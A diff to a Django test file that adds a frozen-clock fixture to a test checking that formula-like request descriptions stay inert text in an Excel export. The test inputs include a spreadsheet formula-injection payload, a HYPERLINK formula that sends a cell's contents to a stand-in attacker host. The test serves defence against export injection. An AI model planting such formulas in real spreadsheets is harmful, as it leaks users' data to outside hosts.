@@ -4,8 +4,11 @@ from __future__ import annotations
 
 import io
 import uuid
+from datetime import datetime
+from zoneinfo import ZoneInfo
 
 import pytest
+import time_machine
 from django.urls import reverse
 from openpyxl import load_workbook
 
@@ -238,8 +241,16 @@ def test_secretary_prints_the_daily_summary_and_takes_the_excel(client, pw):
 FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
 
 
+@pytest.fixture
+def midmorning():
+    """The summary is of today: a clock that stays inside one day, set before the world."""
+    at = datetime(2026, 5, 12, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
+    with time_machine.travel(at, tick=True):
+        yield
+
+
 @pytest.mark.parametrize("text", [FORMULA, "+1+1 楼道堵塞", "-2+3", "@SUM(1,2)", "#N/A"])
-def test_a_request_that_looks_like_a_formula_stays_text_in_the_excel(client, pw, text):
+def test_a_request_that_looks_like_a_formula_stays_text_in_the_excel(midmorning, client, pw, text):
     p = pw.submit(description=text)
     walk_to(pw, pw.submit(), Status.ACCEPTED)
     escalated = move(
